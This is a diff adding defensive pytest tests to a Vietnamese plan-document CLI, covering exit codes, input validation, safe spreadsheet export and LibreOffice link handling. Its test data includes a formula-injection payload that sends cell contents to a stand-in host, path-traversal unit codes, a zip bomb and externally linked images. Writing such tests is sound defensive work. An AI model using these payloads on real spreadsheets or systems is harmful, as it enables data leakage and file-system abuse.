@@ -51,6 +51,9 @@ def ws(tmp_path) -> Path:
         shutil.copy(SOURCE / name, ws / name)
     for unit in UNITS:
         shutil.copy(SOURCE / "don-vi" / f"{unit}.yaml", ws / "don-vi" / f"{unit}.yaml")
+    for declared in (SOURCE / "ket-qua").glob("*.yaml"):  # the results the programme declares
+        (ws / "ket-qua").mkdir(exist_ok=True)
+        shutil.copy(declared, ws / "ket-qua" / declared.name)
     return ws
 
 
@@ -493,3 +496,347 @@ def test_a_template_found_elsewhere_is_named(tmp_path):
                            cwd=tmp_path)
     assert code == 0, err
     assert "dùng mẫu" in err and "ke-hoach-dang.docx" in err
+
+
+# --------------------------------------------------------------------------- major: exit codes
+
+@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
+@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf"])
+def test_nan_or_infinity_in_a_target_is_refused_at_its_place(tmp_path, value):
+    f = plan_path(tmp_path, **{"        gia_tri: 100": f"        gia_tri: {value}"})
+    code, _, err = kehoach("validate", f)
+    assert_clean_failure(code, err, (1,))
+    line = next(i for i, t in enumerate(f.read_text(encoding="utf-8").splitlines(), 1)
+                if t == f"        gia_tri: {value}")
+    assert "không phải một số" in err and f"{f}:{line}:" in err
+
+
+@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
+def test_status_without_a_unit_model_says_so(ws):
+    (ws / "khung-don-vi.yaml").unlink()
+    code, _, err = kehoach("status", ws)
+    assert_clean_failure(code, err)
+    assert "khung-don-vi.yaml" in err
+
+
+@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
+@pytest.mark.parametrize("bad", ["31-12", "32/12", "tháng 12"])
+def test_a_malformed_report_deadline_is_refused_by_validate(ws, bad):
+    model = ws / "khung-don-vi.yaml"
+    model.write_text(model.read_text(encoding="utf-8") + f'\nhan_bao_cao: "{bad}"\n', encoding="utf-8")
+    code, _, err = kehoach("validate", model)
+    assert_clean_failure(code, err, (1,))
+    assert "han_bao_cao" in err and "31/12" in err
+    code, _, err = kehoach("status", ws)
+    assert_clean_failure(code, err, (1,))
+
+
+def _failing(errno_: int, real=os.open):
+    def fake_open(path, flags, *args, **kwargs):
+        if flags & os.O_CREAT and flags & os.O_EXCL:  # a new temporary file: where a write starts
+            raise OSError(errno_, os.strerror(errno_), str(path))
+        return real(path, flags, *args, **kwargs)
+    return fake_open
+
+
+@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
+@pytest.mark.parametrize("errno_, words", [(30, "chỉ cho đọc"), (28, "đầy")])
+def test_a_read_only_or_full_output_disk_is_said_in_words(ws, tmp_path, monkeypatch, errno_, words):
+    monkeypatch.setattr(os, "open", _failing(errno_))
+    code, _, err = kehoach("build", ws, "--out", tmp_path / "out", "-j", "1")
+    assert_clean_failure(code, err)
+    assert words in err
+    code, _, err = kehoach("render", ws / "ke-hoach-44.yaml", "-o", tmp_path / "o.docx")
+    assert_clean_failure(code, err)
+    assert words in err
+
+
+@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
+def test_a_very_long_unit_name_gives_a_file_name_that_fits(ws):
+    code, stdout, err = kehoach("new", "unit", ws, "--ten", "Sở " + "Rất Dài " * 60, "--loai", "dang_bo")
+    assert code == 0, err
+    (made,) = [p for p in (ws / "don-vi").iterdir() if p.name.startswith("so-rat-dai")]
+    assert len(made.name.encode()) <= 100
+    assert f'ten: "Sở {"Rất Dài " * 59}Rất Dài"' in made.read_text(encoding="utf-8")
+
+
+def _cli(*args: str, stdout=subprocess.PIPE) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "kehoach_docs", *args], cwd=ROOT, stdout=stdout,
+                          stderr=subprocess.PIPE, text=True, timeout=300)
+
+
+@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
+def test_build_into_a_closed_pipe_stops_quietly(ws, tmp_path):
+    proc = subprocess.Popen(f"{sys.executable} -m kehoach_docs build {ws} --out {tmp_path / 'out'} -j 1 -v"
+                            " | head -c 0; echo ${PIPESTATUS[0]} >&2", shell=True,
+                            executable="/bin/bash", cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True)
+    _, err = proc.communicate(timeout=300)
+    code = int(err.strip().splitlines()[-1])
+    assert_clean_failure(code, err)
+    assert "BrokenPipe" not in err and "Exception ignored" not in err
+    assert (tmp_path / "out" / "ke-hoach-44.docx").is_file()
+
+
+@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
+def test_stdout_to_a_full_device_is_said_in_words(ws):
+    with open("/dev/full", "w") as full:
+        proc = _cli("status", str(ws), "--as-of", "2023-12-31", "--tat-ca", stdout=full)
+    assert_clean_failure(proc.returncode, proc.stderr)
+    assert "đầy" in proc.stderr and "Exception ignored" not in proc.stderr
+
+
+# --------------------------------------------------------------------------- major: command line
+
+@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
+def test_check_refuses_a_zip_bomb_before_inflating_it(tmp_path, monkeypatch):
+    from kehoach_docs import package_safety
+
+    monkeypatch.setattr(package_safety, "MAX_PACKAGE_BYTES", 1 << 20)
+    bomb = template_with(tmp_path, "bomb.docx", add=[("word/media/zeros.bin", b"\0" * (4 << 20))])
+    assert bomb.stat().st_size < 100_000
+    code, stdout, err = kehoach("check", bomb)
+    assert_clean_failure(code, err + stdout, (1,))
+    assert "quá lớn khi giải nén" in stdout
+
+
+@case("Spreadsheet formula injection")
+def test_a_name_like_a_formula_is_written_as_text_in_status_exports(ws, tmp_path):
+    import csv
+
+    import openpyxl
+
+    unit = ws / "don-vi" / "so-noi-vu.yaml"
+    formula = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")'
+    text = unit.read_text(encoding="utf-8")
+    assert "\nten: Sở Nội vụ" in text
+    unit.write_text(text.replace("\nten: Sở Nội vụ", "\nten: '" + formula.replace("'", "''") + "'", 1),
+                    encoding="utf-8")
+    xlsx, csv_path = tmp_path / "t.xlsx", tmp_path / "t.csv"
+    code, _, err = kehoach("status", ws, "--as-of", "2023-12-31", "--tat-ca", "--xlsx", xlsx, "--csv", csv_path)
+    assert code == 0, err
+    cells = [c for row in openpyxl.load_workbook(xlsx).active.iter_rows() for c in row if c.value == formula]
+    assert cells and all(c.data_type == "s" for c in cells)
+    with zipfile.ZipFile(xlsx) as zf:
+        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
+    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
+    assert ["'" + formula] == [c for r in rows for c in r if formula in c]
+    assert not [c for r in rows for c in r if c.startswith(("=", "+", "@"))]
+
+
+@case("Paths from `new unit`")
+@pytest.mark.parametrize("ma", ["../../x", "a/b", ".an", "/tmp/x"])
+def test_new_unit_refuses_a_code_that_is_a_path(ws, tmp_path, ma):
+    before = sorted(p for p in tmp_path.rglob("*"))
+    code, _, err = kehoach("new", "unit", ws, "--ten", "Sở Mới", "--loai", "dang_bo", "--ma", ma)
+    assert_clean_failure(code, err, (2,))
+    assert "--ma" in err or "Mã" in err
+    assert sorted(p for p in tmp_path.rglob("*")) == before
+    assert not Path("/tmp/x.yaml").exists() or ma != "/tmp/x"
+
+
+@case("Paths from `new unit`")
+def test_new_unit_with_a_name_without_letters_asks_for_a_code(ws):
+    code, _, err = kehoach("new", "unit", ws, "--ten", "!!!", "--loai", "dang_bo")
+    assert_clean_failure(code, err, (2,))
+    assert "--ma" in err and not (ws / "don-vi" / ".yaml").exists()
+
+
+# --------------------------------------------------------------------------- minor
+
+@case("Temporary files: only our own, only where a build writes")
+def test_cleanup_leaves_other_programs_files_and_deep_folders_alone(ws, tmp_path):
+    out = tmp_path / "out"
+    foreign = out / "don-vi" / ".x.abcdefgh.tmp"  # another program's name
+    deep = out / "a" / "b" / "c" / "d" / ".x.docx.kehoach-abcdefgh.tmp"  # below any output folder
+    for f in (foreign, deep):
+        f.parent.mkdir(parents=True, exist_ok=True)
+        f.write_bytes(b"")
+    ours = out / "don-vi" / ".so-noi-vu.docx.kehoach-abcdefgh.tmp"  # a killed build's
+    ours.write_bytes(b"half")
+    assert _build(ws, out)[0] == 0
+    assert foreign.exists() and deep.exists() and not ours.exists()
+
+
+@case("Unit file names that differ only in case or marks")
+@pytest.mark.parametrize("other", ["So-Noi-Vu", "SO-NOI-VU"])
+def test_unit_files_differing_only_in_case_are_refused_naming_both(ws, tmp_path, other):
+    shutil.copy(ws / "don-vi" / "so-noi-vu.yaml", ws / "don-vi" / f"{other}.yaml")
+    code, stdout, err = _build(ws, tmp_path / "out")
+    assert code == 1 and f"'{other}.yaml'" in err and "'so-noi-vu.yaml'" in err
+    assert not (tmp_path / "out" / "don-vi" / "so-noi-vu.docx").exists()
+    assert (tmp_path / "out" / "don-vi" / "ban-dan-toc.docx").is_file()
+
+
+@case("Unit file names that differ only in case or marks")
+def test_unit_files_differing_only_in_normalisation_are_refused_naming_both(ws, tmp_path):
+    import unicodedata
+
+    nfc, nfd = unicodedata.normalize("NFC", "sở-mới"), unicodedata.normalize("NFD", "sở-mới")
+    for name in (nfc, nfd):
+        shutil.copy(ws / "don-vi" / "so-noi-vu.yaml", ws / "don-vi" / f"{name}.yaml")
+    code, _, err = _build(ws, tmp_path / "out")
+    assert code == 1 and err.count("sở-mới") + err.count(nfd) >= 2 and "ghi đè" in err
+
+
+def _plan_problem(tmp_path: Path, **changes) -> str:
+    code, _, err = kehoach("validate", plan_path(tmp_path, **changes))
+    assert_clean_failure(code, err, (1,))
+    return err
+
+
+@case("Implausible figures and dates")
+def test_a_plan_dated_in_2200_is_refused(tmp_path):
+    assert "2200" in _plan_problem(tmp_path, **{"ngay: 2021-12-10": "ngay: 2200-12-10"})
+
+
+@case("Implausible figures and dates")
+def test_a_target_of_1e300_is_refused(tmp_path):
+    assert "Số quá lớn" in _plan_problem(tmp_path, **{"        gia_tri: 100": "        gia_tri: 1.0e+300"})
+
+
+@case("Implausible figures and dates")
+def test_a_count_of_two_and_a_half_models_is_refused(tmp_path):
+    text = (SOURCE / "ke-hoach-44.yaml").read_text(encoding="utf-8")
+    import re
+    m = re.search(r"\n( +)gia_tri: (\d+)\n\1don_vi: mô hình", text)
+    assert m, "the sample plan counts models"
+    err = _plan_problem(tmp_path, **{m.group(0): m.group(0).replace(f"gia_tri: {m[2]}", "gia_tri: 2.5")})
+    assert "số nguyên" in err
+
+
+def _results_problem(ws: Path, text: str) -> str:
+    f = ws / "ket-qua" / "2023" / "so-noi-vu.yaml"
+    f.parent.mkdir(parents=True, exist_ok=True)
+    f.write_text(text, encoding="utf-8")
+    code, _, err = kehoach("validate", f)
+    assert_clean_failure(code, err, (1,))
+    return err
+
+
+@case("Implausible figures and dates")
+def test_attendance_above_the_total_is_refused(ws):
+    err = _results_problem(ws, "nam: 2023\nquan_triet: {so_buoi: 2, so_nguoi_du: 300, tong_so_nguoi: 185}\n")
+    assert "300" in err and "185" in err
+
+
+@case("Implausible figures and dates")
+def test_a_value_that_fits_no_kind_gets_one_message_without_pydantic_names(ws):
+    err = _results_problem(ws, "nam: 2023\nchi_tieu:\n  tthc_nhanh_dung_hieu_qua: {dat: 5, tong: 3}\n"
+                               "  hai_long_tthc: 2,5 phần trăm\n")
+    assert "function-after" not in err and "Counts" not in err and "[bool]" not in err
+    assert "đạt (5) lớn hơn tổng số (3)" in err
+    assert err.count("hai_long_tthc") == 1
+
+
+@case("Empty or wrong folders")
+@pytest.mark.parametrize("make", ["empty", "parent"])
+def test_building_an_empty_or_wrong_folder_says_so(tmp_path, make):
+    folder = tmp_path / "trong"
+    folder.mkdir()
+    if make == "parent":
+        (folder / "de-an-04").mkdir()  # the workspace one level down: the wrong folder was given
+    code, _, err = kehoach("build", folder, "--out", tmp_path / "out")
+    assert_clean_failure(code, err, (1,))
+    assert "không có văn bản nào" in err and not (tmp_path / "out").exists()
+
+
+# --------------------------------------------------------------------------- LibreOffice
+
+def _docx_with_linked_image(tmp_path: Path, target: str) -> Path:
+    pic = ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
+           'wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/><wp:docPr id="99" name="p"/><a:graphic '
+           'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.'
+           'openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
+           'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="99" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
+           '<pic:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+           'r:link="rIdX"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" '
+           'y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
+           '</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>').encode()
+    return template_with(tmp_path, "lien-ket.docx",
+                         replace={"word/_rels/document.xml.rels": _external_image_rels(target)},
+                         edit=lambda n, d: d.replace(b"<w:body>", b"<w:body>" + pic, 1)
+                         if n == "word/document.xml" else d)
+
+
+@pytest.fixture
+def http_server():
+    import http.server
+    import threading
+
+    hits: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield server.server_port, hits
+    server.shutdown()
+
+
+@case("LibreOffice with links and network off")
+def test_pdf_refuses_a_docx_with_an_external_link(tmp_path, http_server):
+    port, hits = http_server
+    doc = _docx_with_linked_image(tmp_path, f"http://127.0.0.1:{port}/x.png")
+    proc = _cli("pdf", str(doc))
+    assert_clean_failure(proc.returncode, proc.stderr, (1,))
+    assert "liên kết ra ngoài" in proc.stderr and hits == [] and not doc.with_suffix(".pdf").exists()
+
+
+@case("LibreOffice with links and network off")
+def test_pdf_engine_fetches_no_linked_image_even_unchecked(tmp_path, http_server):
+    """LibreOffice itself, given a file the package check would refuse, makes no request and
+    embeds no local file (its profile turns links and the network off)."""
+    import base64
+
+    from kehoach_docs import pdf
+
+    port, hits = http_server
+    png = tmp_path / "bi-mat.png"
+    png.write_bytes(base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/"
+                                     "iZk9HQAAAABJRU5ErkJggg=="))
+    (tmp_path / "web").mkdir()
+    web = _docx_with_linked_image(tmp_path / "web", f"http://127.0.0.1:{port}/x.png")
+    local = _docx_with_linked_image(tmp_path, png.as_uri())
+    original = pdf._invalid_reason
+    try:
+        pdf._invalid_reason = lambda src: None if src in (web, local) else original(src)
+        results = pdf.convert_to_pdf([web, local], workers=1)
+    finally:
+        pdf._invalid_reason = original
+    assert all(r.ok for r in results), [r.error for r in results]
+    assert hits == []
+    assert b"/Subtype /Image" not in (tmp_path / "lien-ket.pdf").read_bytes()
+
+
+@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
+def test_pdf_whose_target_is_a_folder_fails_that_file_in_words(tmp_path):
+    f = plan_path(tmp_path)
+    assert kehoach("render", f, "-o", tmp_path / "kh.docx")[0] == 0
+    (tmp_path / "kh.pdf").mkdir()
+    proc = _cli("pdf", str(tmp_path / "kh.docx"))
+    assert_clean_failure(proc.returncode, proc.stderr, (1,))
+    assert "thư mục" in proc.stderr and "kh.pdf" in proc.stderr
+
+
+def case_counts() -> dict[str, int]:
+    """Cases per group (a parametrised test counts once per parameter set), for
+    docs/reliability.md (checked by test_reliability.py::test_reliability_doc_is_honest)."""
+    import math
+
+    module = sys.modules[__name__]
+    counts = {}
+    for group, names in CASES.items():
+        total = 0
+        for name in names:
+            marks = [m for m in getattr(getattr(module, name), "pytestmark", []) if m.name == "parametrize"]
+            total += math.prod(len(m.args[1]) for m in marks)
+        counts[group] = total
+    return counts
